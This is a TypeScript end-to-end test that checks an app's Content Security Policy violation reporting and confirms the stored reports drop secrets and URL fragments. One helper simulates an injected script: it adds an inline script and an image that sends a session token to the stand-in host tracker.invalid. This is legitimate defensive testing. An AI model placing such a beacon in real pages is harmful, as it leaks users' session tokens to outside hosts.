import { join } from 'node:path';
import BetterSqlite3 from 'better-sqlite3';
import type { Browser, Page } from 'playwright-core';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { launchBrowser } from './support/browser.ts';
import { startServer, type RunningServer } from './support/server.ts';

let server: RunningServer;
let browser: Browser;

beforeAll(async () => {
  server = await startServer({ smtp: false, env: { CSP_REPORTS: 'on' } });
  browser = await launchBrowser();
});

afterAll(async () => {
  await browser?.close();
  await server?.stop();
});

interface Row {
  source: string;
  document_uri: string;
  blocked_uri: string | null;
  effective_directive: string | null;
  original_policy: string | null;
  disposition: string | null;
}

/** The rows as the server stored them, read from its SQLite file. */
function storedReports(): Row[] {
  const db = new BetterSqlite3(join(server.dataDir, 'sladd.db'), { readonly: true, fileMustExist: true });
  try {
    return db.prepare('select * from csp_reports order by received_at').all() as Row[];
  } finally {
    db.close();
  }
}

async function waitForRows(match: (rows: Row[]) => boolean, timeoutMs: number): Promise<Row[]> {
  const until = Date.now() + timeoutMs;
  let rows = storedReports();
  while (!match(rows) && Date.now() < until) {
    await new Promise((resolve) => setTimeout(resolve, 250));
    rows = storedReports();
  }
  return rows;
}

/** Breaks the policy twice, as an injected script would: an inline script and an image from elsewhere. */
async function violate(page: Page): Promise<boolean> {
  return page.evaluate(() => {
    const script = document.createElement('script');
    script.textContent = 'window.__sladdInlineRan = true';
    document.body.append(script);
    const image = document.createElement('img');
    image.src = 'https://tracker.invalid/pixel.gif?session=s3cr3t-token';
    document.body.append(image);
    return (window as { __sladdInlineRan?: boolean }).__sladdInlineRan === true;
  });
}

describe('Content Security Policy reports', () => {
  it("stores a real Chromium violation, from the page's listener and from the browser's own report-uri report", async () => {
    const context = await browser.newContext({ locale: 'en-GB' });
    const page = await context.newPage();
    await page.goto(`${server.baseUrl}/login?next=%2Fsecret-path#frag`);
    await page.getByRole('heading', { name: 'Log in' }).waitFor();
    // The app's own start breaks nothing (zod's eval probe used to: main.tsx sets jitless).
    await new Promise((resolve) => setTimeout(resolve, 1500));
    expect(storedReports()).toEqual([]);
    expect(await violate(page)).toBe(false); // the policy held: the inline script did not run

    const fromPage = await waitForRows(
      (rows) => rows.filter((row) => row.source === 'client').length >= 2,
      15_000,
    );
    const client = fromPage.filter((row) => row.source === 'client');
    expect(client.map((row) => row.effective_directive).sort()).toEqual(['img-src', 'script-src-elem']);
    expect(client.find((row) => row.effective_directive === 'img-src')).toMatchObject({
      document_uri: `${server.baseUrl}/login`,
      blocked_uri: 'https://tracker.invalid/pixel.gif',
      disposition: 'enforce',
    });
    expect(client.find((row) => row.effective_directive === 'script-src-elem')?.blocked_uri).toBe('inline');
    expect(client[0]!.original_policy).toContain('report-uri /api/csp-reports');

    // Chromium's own report, sent to the policy's report-uri.
    const all = await waitForRows(
      (rows) => rows.filter((row) => row.source === 'report-uri').length >= 2,
      15_000,
    );
    const fromBrowser = all.filter((row) => row.source === 'report-uri');
    expect(fromBrowser.map((row) => row.effective_directive).sort()).toEqual(['img-src', 'script-src-elem']);
    expect(fromBrowser.find((row) => row.effective_directive === 'img-src')?.blocked_uri).toBe(
      'https://tracker.invalid/pixel.gif',
    );
    const text = JSON.stringify(all);
    expect(text).not.toContain('s3cr3t-token');
    expect(text).not.toContain('secret-path');
    expect(text).not.toContain('__sladdInlineRan');
    await context.close();
  });
});
